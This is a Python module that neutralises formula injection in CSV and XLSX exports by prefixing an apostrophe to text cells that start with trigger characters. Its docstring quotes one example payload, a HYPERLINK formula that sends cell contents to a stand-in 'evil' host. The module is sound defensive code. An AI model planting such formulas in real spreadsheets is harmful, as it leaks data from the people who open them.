"""Formula-injection guard for CSV and XLSX exports (pure: no Django, no pandas import).

A household answer such as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(...)` would run as a
formula when a commune officer opens the export in Excel or LibreOffice (OWASP "CSV
injection"). Every text cell of every export goes through `neutralise_formula`: a text value
starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading apostrophe, which
spreadsheets show as text. Numbers, dates and None are left alone, so a negative number stays
a number; only strings are touched.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise_formula(v) for v in row]


def neutralise_rows(rows: Iterable[Iterable[Any]]) -> Iterator[list[Any]]:
    """For csv.writer / openpyxl: `writer.writerows(neutralise_rows(rows))`."""
    for row in rows:
        yield neutralise_row(row)


def neutralise_frame(frame):
    """A pandas DataFrame with every text cell (and the column names) neutralised; the input
    is not modified. Duck-typed so this module does not import pandas."""
    out = frame.map(neutralise_formula)
    out.columns = [neutralise_formula(c) for c in frame.columns]
    return out
